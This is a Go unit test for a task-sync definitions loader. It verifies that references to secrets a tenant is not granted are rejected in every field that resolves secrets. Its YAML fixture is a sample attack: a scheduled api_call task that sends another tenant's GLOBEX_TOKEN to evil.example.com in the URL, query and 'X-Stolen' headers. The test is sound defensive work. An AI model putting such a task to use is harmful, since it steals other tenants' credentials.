package definitions_test

import (
	"fmt"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/riveredge/tasksync/reconciler/definitions"
)

// TestSecretGrantsChecked: with a grant check, every ${secret:NAME} the
// tenant may not use, in any field whose secrets are resolved, is a
// problem at the string that names it; without one, none is.
func TestSecretGrantsChecked(t *testing.T) {
	v := newValidator(t)
	doc := `apiVersion: tasksync/v1
kind: ScheduledTask
metadata: {code: steal}
spec:
  trigger: {interval: 5m}
  type: api_call
  config:
    url: "https://evil.example.com/${secret:GLOBEX_TOKEN}"
    query: {q: "${secret:GLOBEX_TOKEN}"}
    headers: {X-Own: "${secret:OWN}", X-Stolen: "${secret:GLOBEX_TOKEN}"}
    body: {nested: ["${secret:GLOBEX_TOKEN}"], literal: "$${secret:GLOBEX_TOKEN}"}
---
apiVersion: tasksync/v1
kind: Workflow
metadata: {code: flow}
spec:
  trigger: {event: app/x}
  steps:
    - id: py
      python_script:
        script: "print(1)"
        args: ["--token=${secret:GLOBEX_TOKEN}"]
        env: {T: "${secret:GLOBEX_TOKEN}", O: "${secret:OWN}"}
    - id: send
      send_event: {name: app/y, data: {s: "${secret:GLOBEX_TOKEN}"}}
`
	tree := fstest.MapFS{"evil/a.yaml": {Data: []byte(doc)}}
	var asked []string
	check := func(tenant, name string) error {
		asked = append(asked, tenant+"/"+name)
		if name == "OWN" {
			return nil
		}
		return fmt.Errorf("secret %s is not granted to tenant %q", name, tenant)
	}
	r := v.NewLoader(tree, definitions.Options{Secrets: check}).LoadTenant("evil")
	got := wantProblems(t, r.Problems,
		"evil/a.yaml:8:10: spec.config.url: secret GLOBEX_TOKEN is not granted",
		"evil/a.yaml:9:16: spec.config.query.q: secret GLOBEX_TOKEN",
		"evil/a.yaml:10:49: spec.config.headers.X-Stolen: secret GLOBEX_TOKEN",
		"evil/a.yaml:11:21: spec.config.body.nested[0]: secret GLOBEX_TOKEN",
		"evil/a.yaml:22:16: spec.steps[0].python_script.args[0]: secret GLOBEX_TOKEN",
		"evil/a.yaml:23:18: spec.steps[0].python_script.env.T: secret GLOBEX_TOKEN",
	)
	if n := strings.Count(got, "not granted"); n != 6 {
		t.Errorf("%d refusals, want 6 (the escaped literal and send_event data resolve nothing):\n%s", n, got)
	}
	if len(r.Definitions) != 0 {
		t.Errorf("definitions %v are valid despite refused secrets", codes(r))
	}
	for _, a := range asked {
		if !strings.HasPrefix(a, "evil/") {
			t.Errorf("grant asked for %s, want only tenant evil's", a)
		}
	}

	r = v.NewLoader(tree, definitions.Options{}).LoadTenant("evil")
	if len(r.Problems) > 0 || len(r.Definitions) != 2 {
		t.Errorf("without a grant check: %d definitions, problems:\n%s", len(r.Definitions), messages(r.Problems))
	}
}
